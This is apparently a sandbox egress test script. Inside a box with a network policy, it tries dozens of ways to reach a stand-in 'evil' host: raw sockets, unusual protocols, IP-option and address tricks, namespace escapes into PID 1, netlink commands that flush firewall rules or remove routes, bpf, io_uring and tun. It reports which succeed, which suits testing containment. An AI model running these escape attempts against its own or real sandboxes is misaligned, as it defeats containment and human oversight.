#!/usr/bin/env python3
"""Every way out of a box with a network policy but the gate, tried in the box (hostile/net_attack): "NAME ERROR" or "NAME WORKED" a line."""
import ctypes, errno, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
EVIL = "9.9.9.66"
def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0: raise OSError(ctypes.get_errno(), "")
def libc_call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0: raise OSError(ctypes.get_errno(), "")
def made(*kind): return socket.socket(*kind)
def sent(kind, to, *options):
    s = made(*kind); s.settimeout(2)
    for option in options: s.setsockopt(*option)
    if kind[1] & 15 == socket.SOCK_STREAM: s.connect(to); s.sendall(b"GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n")
    else: s.sendto(b"x" * 40, to)
    got = s.recv(99)
    if not got or got[:12] == b"HTTP/1.1 403" : raise OSError(errno.ECONNRESET, "")
def source(address, port):
    s = socket.socket(); s.settimeout(2); s.bind((address, port)); s.connect((EVIL, 80)); s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    if s.recv(12) in (b"", b"HTTP/1.1 400"): raise OSError(errno.ECONNRESET, "")
def fast_open():
    s = socket.socket(); s.settimeout(2)
    s.sendto(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0x20000000, (EVIL, 80))
    if s.recv(12) == b"HTTP/1.1 403": raise OSError(errno.ECONNRESET, "")
def netlink(protocol, kind, body=b""):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol); s.settimeout(2)
    s.send(struct.pack("IHHII", 16 + len(body), kind, 5, 1, 0) + body)
    number = struct.unpack_from("i", s.recv(4096), 16)[0]
    if number < 0: raise OSError(-number, "")
def served(port):
    s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("93.184.0.10", port)); s.listen()
    c = socket.socket(); c.settimeout(2); c.connect(("93.184.0.10", port)); s.settimeout(1); s.accept()
D, S = socket.SOCK_DGRAM, socket.SOCK_STREAM
ways = {
 "packet": lambda: made(17, socket.SOCK_RAW), "raw4": lambda: made(2, 3, 6), "raw6": lambda: made(10, 3, 58),
 "vsock": lambda: made(40, S).connect((2, 22)), "xdp": lambda: made(44, 3), "key": lambda: made(15, 3, 2), "can": lambda: made(29, 3, 1),
 "bluetooth": lambda: made(31, 3, 1), "alg": lambda: made(38, 5), "rds": lambda: made(21, 5), "tipc": lambda: made(30, 2),
 "ping": lambda: sent((2, D, 1), ("8.8.8.8", 0)), "sctp": lambda: sent((2, S, 132), (EVIL, 80)), "dccp": lambda: made(2, 6, 33).connect((EVIL, 80)),
 "udplite": lambda: sent((2, D, 136), ("93.184.0.53", 53)), "mptcp": lambda: sent((2, S, 262), (EVIL, 80)), "quic": lambda: sent((2, D), ("93.184.0.10", 443)),
 "mark": lambda: sent((2, S), (EVIL, 80), (1, 36, 1)), "device": lambda: sent((2, S), (EVIL, 80), (1, 25, b"lo\0")),
 "transparent": lambda: sent((2, S), (EVIL, 80), (0, 19, 1)), "freebind": lambda: sent((2, S), (EVIL, 80), (0, 15, 1)),
 "source route": lambda: sent((2, S), (EVIL, 80), (0, 4, b"\x83\x07\x04\x09\x09\x09\x42\x01")),
 "routing header": lambda: sent((10, S), ("2606:4700::10", 80), (41, 57, b"\0\2\0\1\0\0\0\0" + bytes(16))),
 "another source": lambda: source("93.184.0.10", 0), "source port 53": lambda: source("10.204.0.2", 53),
 "fast open": fast_open, "own server at that address": lambda: served(80),
 "multicast": lambda: sent((2, D), ("224.0.0.251", 5353)), "broadcast": lambda: sent((2, D), ("255.255.255.255", 67), (1, 6, 1)),
 "link-local": lambda: sent((10, S), ("fe80::1", 80, 0, 1)), "all nodes": lambda: sent((10, D), ("ff02::1", 5353, 0, 1)),
 "mapped": lambda: sent((10, S), ("::ffff:9.9.9.66", 80)), "compatible": lambda: sent((10, S), ("::9.9.9.66", 80)),
 "nat64": lambda: sent((10, S), ("64:ff9b::909:942", 80)), "6to4": lambda: sent((10, S), ("2002:909:942::1", 80)),
 "port 0": lambda: sent((2, S), (EVIL, 0)), "address 0": lambda: sent((2, S), ("0.0.0.0", 443)),
 "new network namespace": lambda: libc_call("unshare", 0x40000000), "with a user namespace": lambda: libc_call("unshare", 0x50000000),
 "namespace of PID 1": lambda: libc_call("setns", os.open("/proc/1/ns/net", 0), 0x40000000) if os.stat("/proc/1/ns/net").st_ino != os.stat("/proc/self/ns/net").st_ino else made(17, 3),
 "flush of rules": lambda: netlink(12, 0x0a02, bytes(4)), "route removed": lambda: netlink(0, 25, struct.pack("8BI", 2, 0, 0, 0, 255, 2, 254, 2, 0)),
 "link down": lambda: netlink(0, 16, struct.pack("BBHiII", 0, 0, 1, 1, 0, 1)), "socket killed": lambda: netlink(4, 21, struct.pack("BBBBI", 2, 6, 0, 0, 0xfff) + bytes(48)),
 "bpf": lambda: call(321, 5, 0, 0), "io_uring": lambda: call(425, 4, ctypes.create_string_buffer(120)),
 "abstract names": lambda: [socket.socket(1, 1).connect("\0" + n.split("@", 1)[1].strip()) for n in open("/proc/net/unix") if "@" in n] or made(17, 3),
 "pidfd of PID 1": lambda: call(438, os.pidfd_open(1), 3, 0), "tun": lambda: os.open("/dev/net/tun", 2),
}
for name, way in ways.items():
    try: way(); print(name, "WORKED")
    except (OSError, TimeoutError) as e: print(name, errno.errorcode.get(e.errno, "timeout"))
